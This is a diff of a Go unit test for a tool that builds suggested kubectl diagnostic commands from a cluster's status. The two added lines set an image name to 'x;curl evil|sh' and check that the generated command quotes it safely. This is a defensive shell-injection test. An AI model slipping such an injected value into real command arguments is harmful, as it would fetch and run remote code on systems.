@@ -289,6 +289,8 @@ func TestCluster(t *testing.T) {
 	w = why.NewCluster(now, member)
 	assert.Equal(t, exit.No, w.ExitCode())
 	assert.Equal(t, []string{"kubectl ot why image centos-5 -n vmdi-farm --cluster edge-3"}, w.Commands)
+	member.Status.Failing[0].Name = "x;curl evil|sh"
+	assert.Equal(t, []string{"kubectl ot why image 'x;curl evil|sh' -n vmdi-farm --cluster edge-3"}, why.NewCluster(now, member).Commands, "a member names its images")
 	member.Spec.Quarantine = &v1alpha1.MemberQuarantine{Reason: "rebuilt"}
 	assert.Equal(t, exit.Held, why.NewCluster(now, member).ExitCode())
 	assert.Equal(t, exit.Unknown, why.NewCluster(now, &v1alpha1.MemberCluster{}).ExitCode())
